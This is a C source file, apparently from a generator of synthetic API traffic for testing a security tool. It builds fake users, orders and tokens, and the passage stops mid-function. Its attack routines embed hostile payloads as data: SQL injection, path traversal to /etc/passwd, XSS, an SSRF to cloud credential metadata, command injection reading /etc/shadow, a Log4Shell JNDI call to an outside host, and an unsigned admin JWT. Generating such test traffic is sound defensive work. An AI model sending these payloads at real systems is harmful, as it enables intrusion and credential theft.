/* gen_http.c - JSON API request/response text for apiguard-gen.
 *
 * Single-threaded by design (the generator is one process writing one
 * file), so the response body scratch buffer is a file-level static.
 */
#include "gen_http.h"

#include <string.h>
#include <time.h>

static const char *const attack_names[] = {
#define GEN_X(id, name) name,
	GEN_ATTACKS(GEN_X)
#undef GEN_X
};

const char *gen_attack_name(int k)
{
	return (k >= 0 && k < GEN_ATK_COUNT) ? attack_names[k] : "none";
}

int gen_attack_by_name(const char *name)
{
	for (int k = 0; k < GEN_ATK_COUNT; k++)
		if (!strcmp(name, attack_names[k]))
			return k;
	return GEN_ATK_NONE;
}

/* ---- vocabulary ---- */

static const char *const first_names[] = {
	"James", "Mary", "John", "Patricia", "Robert", "Jennifer", "Michael",
	"Linda", "William", "Elizabeth", "David", "Barbara", "Richard", "Susan",
	"Joseph", "Jessica", "Thomas", "Sarah", "Charles", "Karen", "Daniel",
	"Nancy", "Matthew", "Lisa", "Anthony", "Betty", "Mark", "Margaret",
	"Sofia", "Lukas", "Amelie", "Hiroshi",
};
static const char *const last_names[] = {
	"Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia", "Miller",
	"Davis", "Rodriguez", "Martinez", "Hernandez", "Lopez", "Gonzalez",
	"Wilson", "Anderson", "Thomas", "Taylor", "Moore", "Jackson", "Martin",
	"Lee", "Perez", "Thompson", "White", "Harris", "Sanchez", "Clark",
	"Ramirez", "Lewis", "Robinson", "Mueller", "Tanaka",
};
static const char *const lower_first[] = {
	"james", "mary", "john", "patricia", "robert", "jennifer", "michael",
	"linda", "william", "elizabeth", "david", "barbara", "richard", "susan",
	"joseph", "jessica", "thomas", "sarah", "charles", "karen", "daniel",
	"nancy", "matthew", "lisa", "anthony", "betty", "mark", "margaret",
	"sofia", "lukas", "amelie", "hiroshi",
};
static const char *const lower_last[] = {
	"smith", "johnson", "williams", "brown", "jones", "garcia", "miller",
	"davis", "rodriguez", "martinez", "hernandez", "lopez", "gonzalez",
	"wilson", "anderson", "thomas", "taylor", "moore", "jackson", "martin",
	"lee", "perez", "thompson", "white", "harris", "sanchez", "clark",
	"ramirez", "lewis", "robinson", "mueller", "tanaka",
};
static const char *const mail_domains[] = {
	"example.com", "example.org", "mail.example.net", "corp.example.com",
};
static const char *const cities[] = {
	"Springfield", "Riverside", "Franklin", "Greenville", "Bristol",
	"Clinton", "Fairview", "Salem", "Madison", "Georgetown", "Arlington",
	"Ashland", "Dover", "Oxford", "Jackson", "Burlington",
};
static const char *const states[] = { "IL", "CA", "TX", "NY", "WA", "MA", "OR", "FL" };
static const char *const streets[] = {
	"Main St", "Oak Ave", "Maple Dr", "Cedar Ln", "Pine St", "Elm St",
	"Washington Blvd", "Lake Rd", "Hill St", "Park Ave",
};
static const char *const adjectives[] = {
	"Ergonomic", "Wireless", "Refurbished", "Portable", "Compact",
	"Premium", "Rustic", "Sleek", "Durable", "Smart", "Vintage",
	"Lightweight", "Heavy-Duty", "Organic", "Handmade", "Modular",
};
static const char *const nouns[] = {
	"Mouse", "Keyboard", "Chair", "Desk Lamp", "Backpack", "Water Bottle",
	"Headphones", "Monitor Stand", "Notebook", "Coffee Mug", "Charger",
	"Webcam", "Speaker", "Tablet Case", "Running Shoes", "Jacket",
};
static const char *const categories[] = {
	"electronics", "furniture", "office", "outdoor", "apparel", "kitchen",
	"sports", "accessories",
};
static const char *const order_status[] = {
	"pending", "paid", "processing", "shipped", "delivered", "cancelled",
};
static const char *const tags[] = { "new", "sale", "bestseller", "eco", "limited", "bundle" };

/* Common API clients: browsers through SPAs, SDKs, CLI tools. */
static const char *const user_agents[] = {
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
	"curl/8.4.0",
	"python-requests/2.31.0",
	"okhttp/4.12.0",
	"axios/1.6.8",
	"Go-http-client/1.1",
	"PostmanRuntime/7.37.3",
	"Java/17.0.10",
	"node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
};
static const char *const accept_langs[] = {
	"en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.7",
	"fr-FR,fr;q=0.9,en-US;q=0.6", "ja-JP,ja;q=0.9,en;q=0.5", "es-ES,es;q=0.9",
};
static const char *const hosts[] = {
	"api.example.com", "api.shop.example.com", "orders.example.com",
	"api-eu.example.com", "gateway.example.net", "api.example.org",
	"internal-api.example.com", "v1.api.example.com",
};

/* Routes decide the response shape. */
enum route {
	R_USER,          /* GET/HEAD /api/v1/users/{id} */
	R_USER_ORDER,    /* GET /api/v1/users/{id}/orders/{id} */
	R_PRODUCTS,      /* GET/HEAD /api/v1/products?page&limit */
	R_ORDERS,        /* GET /api/v1/orders */
	R_ORDER_CREATE,  /* POST /api/v1/orders */
	R_USER_PUT,      /* PUT /api/v1/users/{id} */
	R_USER_PATCH,    /* PATCH /api/v1/users/{id} */
	R_ORDER_DELETE,  /* DELETE /api/v1/users/{id}/orders/{id} */
	R_LOGIN,         /* POST /api/v1/auth/login */
	R_OTHER,         /* attack-only endpoints */
};

/* Weights of the normal routes, in percent. */
static const uint8_t route_weight[] = { 20, 14, 27, 11, 9, 4, 5, 4, 6 };

/* ---- small builders ---- */

/* ISO-8601 UTC timestamp somewhere in 2022-2024. */
static void put_iso_date(struct gen_sb *b, struct gen_rng *r)
{
	gen_sb_putc(b, '"');
	gen_sb_u64(b, gen_range(r, 2022, 2024));
	gen_sb_putc(b, '-');
	gen_sb_u64w(b, gen_range(r, 1, 12), 2);
	gen_sb_putc(b, '-');
	gen_sb_u64w(b, gen_range(r, 1, 28), 2);
	gen_sb_putc(b, 'T');
	gen_sb_u64w(b, gen_below(r, 24), 2);
	gen_sb_putc(b, ':');
	gen_sb_u64w(b, gen_below(r, 60), 2);
	gen_sb_putc(b, ':');
	gen_sb_u64w(b, gen_below(r, 60), 2);
	GEN_SB_LIT(b, "Z\"");
}

static void put_email(struct gen_sb *b, struct gen_rng *r, unsigned f, unsigned l)
{
	gen_sb_puts(b, lower_first[f]);
	gen_sb_putc(b, '.');
	gen_sb_puts(b, lower_last[l]);
	gen_sb_putc(b, '@');
	gen_sb_puts(b, GEN_PICK(r, mail_domains));
}

static void put_address(struct gen_sb *b, struct gen_rng *r)
{
	GEN_SB_LIT(b, "{\"street\":\"");
	gen_sb_u64(b, gen_range(r, 1, 9999));
	gen_sb_putc(b, ' ');
	gen_sb_puts(b, GEN_PICK(r, streets));
	GEN_SB_LIT(b, "\",\"city\":\"");
	gen_sb_puts(b, GEN_PICK(r, cities));
	GEN_SB_LIT(b, "\",\"state\":\"");
	gen_sb_puts(b, GEN_PICK(r, states));
	GEN_SB_LIT(b, "\",\"zip\":\"");
	gen_sb_u64w(b, gen_range(r, 10000, 99999), 5);
	GEN_SB_LIT(b, "\",\"country\":\"US\"}");
}

static void put_user(struct gen_sb *b, struct gen_rng *r, uint32_t id)
{
	unsigned f = gen_below(r, 32), l = gen_below(r, 32);
	GEN_SB_LIT(b, "{\"id\":");
	gen_sb_u64(b, id);
	GEN_SB_LIT(b, ",\"username\":\"");
	gen_sb_puts(b, lower_first[f]);
	gen_sb_puts(b, lower_last[l]);
	gen_sb_u64(b, gen_below(r, 100));
	GEN_SB_LIT(b, "\",\"name\":\"");
	gen_sb_puts(b, first_names[f]);
	gen_sb_putc(b, ' ');
	gen_sb_puts(b, last_names[l]);
	GEN_SB_LIT(b, "\",\"email\":\"");
	put_email(b, r, f, l);
	GEN_SB_LIT(b, "\",\"phone\":\"+1-555-");
	gen_sb_u64w(b, gen_below(r, 10000), 4);
	GEN_SB_LIT(b, "\",\"role\":\"");
	gen_sb_puts(b, gen_chance(r, 0.05) ? "admin" : "customer");
	GEN_SB_LIT(b, "\",\"status\":\"active\",\"created_at\":");
	put_iso_date(b, r);
	GEN_SB_LIT(b, ",\"updated_at\":");
	put_iso_date(b, r);
	GEN_SB_LIT(b, ",\"address\":");
	put_address(b, r);
	GEN_SB_LIT(b, ",\"preferences\":{\"newsletter\":");
	gen_sb_puts(b, gen_chance(r, 0.5) ? "true" : "false");
	GEN_SB_LIT(b, ",\"language\":\"en-US\",\"currency\":\"USD\"},\"loyalty\":{\"tier\":\"");
	gen_sb_puts(b, gen_chance(r, 0.2) ? "gold" : "silver");
	GEN_SB_LIT(b, "\",\"points\":");
	gen_sb_u64(b, gen_below(r, 50000));
	GEN_SB_LIT(b, "},\"orders_count\":");
	gen_sb_u64(b, gen_below(r, 300));
	GEN_SB_LIT(b, ",\"last_login_at\":");
	put_iso_date(b, r);
	GEN_SB_LIT(b, ",\"avatar_url\":\"https://cdn.example.com/avatars/");
	gen_sb_randhex(b, r, 32);
	GEN_SB_LIT(b, ".png\"}");
}

static void put_product(struct gen_sb *b, struct gen_rng *r, uint32_t id)
{
	GEN_SB_LIT(b, "{\"id\":");
	gen_sb_u64(b, id);
	GEN_SB_LIT(b, ",\"sku\":\"SKU-");
	gen_sb_u64w(b, id % 100000, 5);
	GEN_SB_LIT(b, "\",\"name\":\"");
	gen_sb_puts(b, GEN_PICK(r, adjectives));
	gen_sb_putc(b, ' ');
	gen_sb_puts(b, GEN_PICK(r, nouns));
	GEN_SB_LIT(b, "\",\"category\":\"");
	gen_sb_puts(b, GEN_PICK(r, categories));
	GEN_SB_LIT(b, "\",\"price\":");
	gen_sb_money(b, gen_range(r, 199, 49999));
	GEN_SB_LIT(b, ",\"currency\":\"USD\",\"stock\":");
	gen_sb_u64(b, gen_below(r, 500));
	GEN_SB_LIT(b, ",\"rating\":");
	gen_sb_u64(b, gen_range(r, 1, 4));
	gen_sb_putc(b, '.');
	gen_sb_u64(b, gen_below(r, 10));
	GEN_SB_LIT(b, ",\"tags\":[\"");
	gen_sb_puts(b, GEN_PICK(r, tags));
	GEN_SB_LIT(b, "\"],\"updated_at\":");
	put_iso_date(b, r);
	gen_sb_putc(b, '}');
}

static void put_order(struct gen_sb *b, struct gen_rng *r, uint32_t id, uint32_t uid)
{
	GEN_SB_LIT(b, "{\"id\":");
	gen_sb_u64(b, id);
	GEN_SB_LIT(b, ",\"user_id\":");
	gen_sb_u64(b, uid);
	GEN_SB_LIT(b, ",\"status\":\"");
	gen_sb_puts(b, GEN_PICK(r, order_status));
	GEN_SB_LIT(b, "\",\"currency\":\"USD\",\"items\":[");
	unsigned n = gen_range(r, 1, 4);
	uint32_t total = 0;
	for (unsigned i = 0; i < n; i++) {
		uint32_t price = gen_range(r, 199, 19999), qty = gen_range(r, 1, 3);
		total += price * qty;
		if (i)
			gen_sb_putc(b, ',');
		GEN_SB_LIT(b, "{\"product_id\":");
		gen_sb_u64(b, gen_range(r, 1000, 99999));
		GEN_SB_LIT(b, ",\"name\":\"");
		gen_sb_puts(b, GEN_PICK(r, adjectives));
		gen_sb_putc(b, ' ');
		gen_sb_puts(b, GEN_PICK(r, nouns));
		GEN_SB_LIT(b, "\",\"quantity\":");
		gen_sb_u64(b, qty);
		GEN_SB_LIT(b, ",\"unit_price\":");
		gen_sb_money(b, price);
		gen_sb_putc(b, '}');
	}
	GEN_SB_LIT(b, "],\"total\":");
	gen_sb_money(b, total);
	GEN_SB_LIT(b, ",\"created_at\":");
	put_iso_date(b, r);
	GEN_SB_LIT(b, ",\"updated_at\":");
	put_iso_date(b, r);
	gen_sb_putc(b, '}');
}

static void put_jwt_payload(struct gen_sb *b, struct gen_rng *r,
			    const struct gen_ident *id, const char *role)
{
	/* Single-threaded tool: one reusable scratch buffer. */
	static struct gen_sb js;
	js.len = 0;
	GEN_SB_LIT(&js, "{\"sub\":\"");
	gen_sb_u64(&js, id->user_id);
	GEN_SB_LIT(&js, "\",\"name\":\"");
	gen_sb_puts(&js, first_names[id->first]);
	gen_sb_putc(&js, ' ');
	gen_sb_puts(&js, last_names[id->last]);
	GEN_SB_LIT(&js, "\",\"email\":\"");
	gen_sb_puts(&js, lower_first[id->first]);
	gen_sb_putc(&js, '.');
	gen_sb_puts(&js, lower_last[id->last]);
	GEN_SB_LIT(&js, "@example.com\",\"role\":\"");
	gen_sb_puts(&js, role);
	GEN_SB_LIT(&js, "\",\"scope\":\"orders:read orders:write profile\",\"iss\":\"https://auth.example.com/\",\"aud\":\"api.example.com\",\"iat\":");
	gen_sb_u64(&js, id->now_s - gen_below(r, 3000));
	GEN_SB_LIT(&js, ",\"exp\":");
	gen_sb_u64(&js, id->now_s + 600 + gen_below(r, 3000));
	GEN_SB_LIT(&js, ",\"jti\":\"");
	gen_sb_uuid(&js, r);
	GEN_SB_LIT(&js, "\"}");
	gen_sb_b64url(b, js.p, js.len);
}

/* base64url of {"alg":"HS256","typ":"JWT"} */
#define JWT_HS256_HDR "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9"
/* base64url of {"alg":"none","typ":"JWT"} */
#define JWT_NONE_HDR "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0"

/* Write a fixed-size identity field through a builder that must not
 * grow: the callers size the arrays for the worst case. */
static void sb_to_array(char *dst, size_t cap, const struct gen_sb *b)
{
	size_t n = b->len < cap - 1 ? b->len : cap - 1;
	memcpy(dst, b->p, n);
	dst[n] = 0;
}

void gen_ident_init(struct gen_ident *id, struct gen_rng *r,
		    unsigned server_idx, uint64_t now_s)
{
	struct gen_sb t = { 0 };
	id->user_agent = GEN_PICK(r, user_agents);
	id->accept_language = GEN_PICK(r, accept_langs);
	snprintf(id->host, sizeof(id->host), "%s",
		 hosts[server_idx % (sizeof(hosts) / sizeof(hosts[0]))]);
	id->user_id = gen_range(r, 1000, 999999);
	id->first = (uint8_t)gen_below(r, 32);
	id->last = (uint8_t)gen_below(r, 32);
	id->now_s = now_s;

	put_jwt_payload(&t, r, id, "customer");
	sb_to_array(id->jwt_payload, sizeof(id->jwt_payload), &t);

	t.len = 0;
	GEN_SB_LIT(&t, "Bearer " JWT_HS256_HDR ".");
	gen_sb_puts(&t, id->jwt_payload);
	gen_sb_putc(&t, '.');
	uint8_t sig[32];
	for (int i = 0; i < 32; i += 8) {
		uint64_t v = gen_rand64(r);
		memcpy(sig + i, &v, 8);
	}
	gen_sb_b64url(&t, sig, sizeof(sig));
	sb_to_array(id->auth, sizeof(id->auth), &t);

	t.len = 0;
	GEN_SB_LIT(&t, "session=");
	gen_sb_randalnum(&t, r, 40);
	GEN_SB_LIT(&t, "; _ga=GA1.2.");
	gen_sb_u64(&t, gen_range(r, 100000000, 999999999));
	gen_sb_putc(&t, '.');
	gen_sb_u64(&t, now_s - gen_below(r, 30000000));
	GEN_SB_LIT(&t, "; csrftoken=");
	gen_sb_randalnum(&t, r, 32);
	GEN_SB_LIT(&t, "; theme=");
	gen_sb_puts(&t, gen_chance(r, 0.5) ? "dark" : "light");
	sb_to_array(id->cookie, sizeof(id->cookie), &t);
	free(t.p);
}

/* ---- requests ---- */

static int pick_route(struct gen_rng *r)
{
	unsigned x = gen_below(r, 100), acc = 0;
	for (unsigned i = 0; i < sizeof(route_weight); i++) {
		acc += route_weight[i];
		if (x < acc)
			return (int)i;
	}
	return R_USER;
}

static const uint8_t page_limits[] = { 20, 20, 20, 25, 25, 30, 30, 40, 50 };

/* Writes the request line's URI for a normal route. */
static void put_route_uri(struct gen_sb *b, struct gen_rng *r, struct gen_req_info *q)
{
	switch (q->route) {
	case R_USER:
	case R_USER_PUT:
	case R_USER_PATCH:
		GEN_SB_LIT(b, "/api/v1/users/");
		gen_sb_u64(b, q->id1);
		break;
	case R_USER_ORDER:
	case R_ORDER_DELETE:
		GEN_SB_LIT(b, "/api/v1/users/");
		gen_sb_u64(b, q->id1);
		GEN_SB_LIT(b, "/orders/");
		gen_sb_u64(b, q->id2);
		break;
	case R_PRODUCTS:
		GEN_SB_LIT(b, "/api/v1/products?page=");
		gen_sb_u64(b, q->page);
		GEN_SB_LIT(b, "&limit=");
		gen_sb_u64(b, q->limit);
		if (gen_chance(r, 0.3)) {
			GEN_SB_LIT(b, "&category=");
			gen_sb_puts(b, GEN_PICK(r, categories));
		}
		break;
	case R_ORDERS:
		GEN_SB_LIT(b, "/api/v1/orders");
		if (gen_chance(r, 0.5)) {
			GEN_SB_LIT(b, "?status=");
			gen_sb_puts(b, GEN_PICK(r, order_status));
		}
		break;
	case R_ORDER_CREATE:
		GEN_SB_LIT(b, "/api/v1/orders");
		break;
	case R_LOGIN:
		GEN_SB_LIT(b, "/api/v1/auth/login");
		break;
	}
}

static void put_request_body(struct gen_sb *b, struct gen_rng *r,
			     const struct gen_ident *id, struct gen_req_info *q)
{
	switch (q->route) {
	case R_ORDER_CREATE: {
		GEN_SB_LIT(b, "{\"user_id\":");
		gen_sb_u64(b, id->user_id);
		GEN_SB_LIT(b, ",\"items\":[");
		unsigned n = gen_range(r, 1, 5);
		for (unsigned i = 0; i < n; i++) {
			if (i)
				gen_sb_putc(b, ',');
			GEN_SB_LIT(b, "{\"product_id\":");
			gen_sb_u64(b, gen_range(r, 1000, 99999));
			GEN_SB_LIT(b, ",\"quantity\":");
			gen_sb_u64(b, gen_range(r, 1, 3));
			gen_sb_putc(b, '}');
		}
		GEN_SB_LIT(b, "],\"shipping_address\":");
		put_address(b, r);
		GEN_SB_LIT(b, ",\"payment_method\":\"card\",\"payment_token\":\"tok_");
		gen_sb_randalnum(b, r, 24);
		GEN_SB_LIT(b, "\",\"coupon\":null,\"notes\":\"Leave at the front door\"}");
		break;
	}
	case R_USER_PUT:
		put_user(b, r, q->id1);
		break;
	case R_USER_PATCH:
		GEN_SB_LIT(b, "{\"phone\":\"+1-555-");
		gen_sb_u64w(b, gen_below(r, 10000), 4);
		GEN_SB_LIT(b, "\",\"preferences\":{\"newsletter\":");
		gen_sb_puts(b, gen_chance(r, 0.5) ? "true" : "false");
		GEN_SB_LIT(b, "}}");
		break;
	case R_LOGIN:
		GEN_SB_LIT(b, "{\"username\":\"");
		gen_sb_puts(b, lower_first[id->first]);
		gen_sb_puts(b, lower_last[id->last]);
		GEN_SB_LIT(b, "\",\"password\":\"");
		gen_sb_randalnum(b, r, (int)gen_range(r, 10, 18));
		GEN_SB_LIT(b, "\",\"remember_me\":");
		gen_sb_puts(b, gen_chance(r, 0.5) ? "true" : "false");
		gen_sb_putc(b, '}');
		break;
	default: /* SSRF webhook registration */
		GEN_SB_LIT(b, "{\"event\":\"order.created\",\"active\":true,\"secret\":\"whsec_");
		gen_sb_randalnum(b, r, 32);
		GEN_SB_LIT(b, "\"}");
		break;
	}
}

static int route_has_body(int route)
{
	return route == R_ORDER_CREATE || route == R_USER_PUT ||
	       route == R_USER_PATCH || route == R_LOGIN;
}

static const char *route_method(int route)
{
	switch (route) {
	case R_ORDER_CREATE:
	case R_LOGIN:
		return "POST";
	case R_USER_PUT:
		return "PUT";
	case R_USER_PATCH:
		return "PATCH";
	case R_ORDER_DELETE:
		return "DELETE";
	default:
		return "GET";
	}
}

/* URI of an attack request (the caller wrote its method); sets route. */
static void put_attack_uri(struct gen_sb *b, struct gen_rng *r, struct gen_req_info *q)
{
	q->route = R_OTHER;
	switch (q->attack) {
	case GEN_ATK_SQLI:
		GEN_SB_LIT(b, "/api/v1/products?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--");
		break;
	case GEN_ATK_TRAVERSAL:
		if (gen_chance(r, 0.5))
			GEN_SB_LIT(b, "/api/v1/files?path=..%2F..%2F..%2F..%2Fetc%2Fpasswd");
		else
			GEN_SB_LIT(b, "/api/v1/files?path=../../etc/passwd");
		break;
	case GEN_ATK_XSS:
		GEN_SB_LIT(b, "/api/v1/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E");
		break;
	case GEN_ATK_SSRF:
		GEN_SB_LIT(b, "/api/v1/webhooks?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/");
		break;
	case GEN_ATK_CMDI:
		GEN_SB_LIT(b, "/api/v1/tools/ping?host=198.18.0.1%3Bcat%20%2Fetc%2Fshadow");
		break;
	case GEN_ATK_ADMIN:
		GEN_SB_LIT(b, "/actuator/env");
		break;
	case GEN_ATK_APIKEY_URL:
		GEN_SB_LIT(b, "/api/v1/reports?api_key=sk_live_");
		gen_sb_randalnum(b, r, 24);
		break;
	default: /* header-borne attacks ride on a normal GET */
		q->route = gen_chance(r, 0.5) ? R_USER : R_PRODUCTS;
		put_route_uri(b, r, q);
		break;
	}
}

void gen_http_request(struct gen_sb *b, struct gen_rng *r,
		      const struct gen_ident *id, const struct gen_req_opts *o,
		      struct gen_req_info *q)
{
	size_t start = b->len;
	memset(q, 0, sizeof(*q));
	q->attack = o->attack;
	q->conn_close = o->conn_close;
	q->id1 = gen_chance(r, 0.6) ? id->user_id : gen_range(r, 1000, 999999);
	q->id2 = gen_range(r, 100000, 9999999);
	q->page = gen_chance(r, 0.6) ? 1 : gen_range(r, 2, 40);
	q->limit = GEN_PICK(r, page_limits);

	if (o->attack != GEN_ATK_NONE) {
		q->route = R_OTHER;
	} else if (o->force_expect) {
		q->route = gen_chance(r, 0.7) ? R_ORDER_CREATE : R_USER_PUT;
	} else if (o->force_head || (o->allow_head && gen_chance(r, o->head_share))) {
		q->route = gen_chance(r, 0.6) ? R_PRODUCTS : R_USER;
		q->is_head = 1;
	} else {
		q->route = pick_route(r);
	}
	if (o->attack != GEN_ATK_NONE)
		q->method = o->attack == GEN_ATK_SSRF ? "POST" : "GET";
	else
		q->method = q->is_head ? "HEAD" : route_method(q->route);

	gen_sb_puts(b, q->method);
	gen_sb_putc(b, ' ');
	q->uri_off = b->len - start;
	if (o->attack != GEN_ATK_NONE)
		put_attack_uri(b, r, q);
	else
		put_route_uri(b, r, q);
	q->uri_len = b->len - start - q->uri_off;
	GEN_SB_LIT(b, " HTTP/1.1\r\nHost: ");
	gen_sb_puts(b, id->host);
	GEN_SB_LIT(b, "\r\nUser-Agent: ");
	if (q->attack == GEN_ATK_SCANNER)
		GEN_SB_LIT(b, "sqlmap/1.7.2#stable (https://sqlmap.org)");
	else
		gen_sb_puts(b, id->user_agent);
	GEN_SB_LIT(b, "\r\nAccept: application/json, text/plain, */*\r\n"
		      "Accept-Encoding: gzip, deflate, br\r\nAccept-Language: ");
	gen_sb_puts(b, id->accept_language);
	if (q->route != R_LOGIN) {
		GEN_SB_LIT(b, "\r\nAuthorization: ");
		if (q->attack == GEN_ATK_JWT_NONE) {
			GEN_SB_LIT(b, "Bearer " JWT_NONE_HDR ".");
			put_jwt_payload(b, r, id, "admin");
			gen_sb_putc(b, '.');
		} else {
			gen_sb_puts(b, id->auth);
		}
	}
	GEN_SB_LIT(b, "\r\nCookie: ");
	gen_sb_puts(b, id->cookie);
	GEN_SB_LIT(b, "\r\nX-Request-Id: ");
	size_t rid = b->len;
	gen_sb_uuid(b, r);
	memcpy(q->request_id, b->p + rid, 36);
	q->request_id[36] = 0;
	GEN_SB_LIT(b, "\r\ntraceparent: 00-");
	gen_sb_randhex(b, r, 32);
	gen_sb_putc(b, '-');
	gen_sb_randhex(b, r, 16);
	GEN_SB_LIT(b, "-01");
	if (q->attack == GEN_ATK_LOG4SHELL)
		GEN_SB_LIT(b, "\r\nX-Api-Version: ${jndi:ldap://198.18.250.1:1389/a}");
	if (q->route == R_USER && !q->is_head && q->attack == GEN_ATK_NONE &&
	    gen_chance(r, 0.15)) {
		q->if_none_match = 1;
		GEN_SB_LIT(b, "\r\nIf-None-Match: W/\"");
		gen_sb_randhex(b, r, 16);
		gen_sb_putc(b, '"');
	}

	int body = route_has_body(q->route) || q->attack == GEN_ATK_SSRF;
	size_t cl_pos = 0;
	if (body) {
		/* Content-Length digits are patched in after the body exists;
		 * reserve 5 digits, bodies here stay far below 100 KB. */
		GEN_SB_LIT(b, "\r\nContent-Type: application/json\r\nContent-Length: ");
		cl_pos = b->len;
		GEN_SB_LIT(b, "00000");
		if (o->attack == GEN_ATK_NONE &&
		    (o->force_expect || (o->allow_expect && gen_chance(r, o->expect_share)))) {
			q->expect_continue = 1;
			GEN_SB_LIT(b, "\r\nExpect: 100-continue");
		}
	}
	if (q->conn_close)
		GEN_SB_LIT(b, "\r\nConnection: close\r\n\r\n");
	else
		GEN_SB_LIT(b, "\r\nConnection: keep-alive\r\n\r\n");
	q->head_len = b->len - start;
	if (body) {
		put_request_body(b, r, id, q);
		size_t n = b->len - start - q->head_len;
		char digits[8];
		int w = snprintf(digits, sizeof(digits), "%5zu", n);
		/* Strip the padding by shifting the header tail left. */
		int pad = 0;
		while (digits[pad] == ' ')
			pad++;
		memcpy(b->p + cl_pos, digits + pad, (size_t)(w - pad));
		if (pad) {
			memmove(b->p + cl_pos + (w - pad), b->p + cl_pos + 5,
				b->len - cl_pos - 5);
			b->len -= (size_t)pad;
			q->head_len -= (size_t)pad;
		}
	}
	q->total_len = b->len - start;
}

/* ---- responses ---- */

static struct gen_sb body_scratch;

static const char *reason(int status)
{
	switch (status) {
	case 200: return "OK";
	case 201: return "Created";
	case 204: return "No Content";
	case 304: return "Not Modified";
	case 400: return "Bad Request";
	case 401: return "Unauthorized";
	case 403: return "Forbidden";
	case 404: return "Not Found";
	default: return "OK";
	}
}

/* "Wed, 01 May 2024 10:00:00 GMT", cached per second. */
static void put_http_date(struct gen_sb *b, uint64_t ts_us)
{
	static uint64_t cached_s = UINT64_MAX;
	static char cached[40];
	static size_t cached_len;
	uint64_t s = ts_us / 1000000;
	if (s != cached_s) {
		time_t t = (time_t)s;
		struct tm tm;
		gmtime_r(&t, &tm);
		cached_len = strftime(cached, sizeof(cached), "%a, %d %b %Y %H:%M:%S GMT", &tm);
		cached_s = s;
	}
	gen_sb_put(b, cached, cached_len);
}

static void put_error_body(struct gen_sb *b, const char *code, const char *msg,
			   const struct gen_req_info *q)
{
	GEN_SB_LIT(b, "{\"error\":\"");
	gen_sb_puts(b, code);
	GEN_SB_LIT(b, "\",\"message\":\"");
	gen_sb_puts(b, msg);
	GEN_SB_LIT(b, "\",\"request_id\":\"");
	gen_sb_puts(b, q->request_id);
	GEN_SB_LIT(b, "\"}");
}

/* Status for a normal route. */
static int normal_status(struct gen_rng *r, const struct gen_req_info *q)
{
	unsigned x = gen_below(r, 1000);
	switch (q->route) {
	case R_USER:
		if (q->if_none_match && x < 600)
			return 304;
		if (x >= 950)
			return 404;
		if (x >= 940)
			return 401;
		return 200;
	case R_USER_ORDER:
		return x >= 940 ? 404 : 200;
	case R_PRODUCTS:
		return 200;
	case R_ORDERS:
		return x >= 985 ? 401 : 200;
	case R_ORDER_CREATE:
		return 201;
	case R_USER_PUT:
		return x >= 970 ? 404 : 200;
	case R_USER_PATCH:
		return x >= 700 ? 204 : 200;
	case R_ORDER_DELETE:
		return x >= 950 ? 404 : 204;
	case R_LOGIN:
		return x >= 850 ? 401 : 200;
	default:
		return 200;
	}
}

static int attack_status(struct gen_rng *r, const struct gen_req_info *q)
{
	int coin = gen_chance(r, 0.5);
	switch (q->attack) {
	case GEN_ATK_SQLI: return coin ? 400 : 403;
	case GEN_ATK_TRAVERSAL: return coin ? 403 : 404;
	case GEN_ATK_LOG4SHELL: return 200; /* vulnerable-looking: served */
	case GEN_ATK_SCANNER: return coin ? 200 : 403;
	case GEN_ATK_XSS: return 400;
	case GEN_ATK_SSRF: return coin ? 400 : 403;
	case GEN_ATK_CMDI: return coin ? 400 : 403;
	case GEN_ATK_JWT_NONE: return 401;
	case GEN_ATK_ADMIN: return 404;
	case GEN_ATK_APIKEY_URL: return coin ? 200 : 401;
	default: return 200;
	}
}

/* Body of a 200/201 for route q; returns nothing for bodiless codes. */
static void put_success_body(struct gen_sb *b, struct gen_rng *r,
			     const struct gen_ident *id, const struct gen_req_info *q)
{
	switch (q->route) {
	case R_USER:
	case R_USER_PUT:
	case R_USER_PATCH:
		put_user(b, r, q->id1);
		break;
	case R_USER_ORDER:
		put_order(b, r, q->id2, q->id1);
		break;
	case R_PRODUCTS: {
		GEN_SB_LIT(b, "{\"page\":");
		gen_sb_u64(b, q->page);
		GEN_SB_LIT(b, ",\"limit\":");
		gen_sb_u64(b, q->limit);
		GEN_SB_LIT(b, ",\"total\":");
		gen_sb_u64(b, 40u * q->limit + gen_below(r, q->limit));
		GEN_SB_LIT(b, ",\"items\":[");
		uint32_t base = (q->page - 1) * q->limit + 1000;
		for (uint32_t i = 0; i < q->limit; i++) {
			if (i)
				gen_sb_putc(b, ',');
			put_product(b, r, base + i);
		}
		GEN_SB_LIT(b, "]}");
		break;
	}
	case R_ORDERS: {
		GEN_SB_LIT(b, "{\"items\":[");
		unsigned n = gen_range(r, 4, 12);
		for (unsigned i = 0; i < n; i++) {
			if (i)
				gen_sb_putc(b, ',');
			put_order(b, r, gen_range(r, 100000, 9999999), id->user_id);
		}
		GEN_SB_LIT(b, "],\"next_cursor\":\"");
		gen_sb_randalnum(b, r, 22);
		GEN_SB_LIT(b, "\"}");
		break;
	}
	case R_ORDER_CREATE:
		put_order(b, r, q->id2, id->user_id);
		break;
	case R_LOGIN:
		GEN_SB_LIT(b, "{\"access_token\":\"" JWT_HS256_HDR ".");
		gen_sb_puts(b, id->jwt_payload);
		gen_sb_putc(b, '.');
		gen_sb_randalnum(b, r, 43);
		GEN_SB_LIT(b, "\",\"token_type\":\"Bearer\",\"expires_in\":3600,\"refresh_token\":\"");
		gen_sb_randalnum(b, r, 48);
		GEN_SB_LIT(b, "\",\"user\":");
		put_user(b, r, id->user_id);
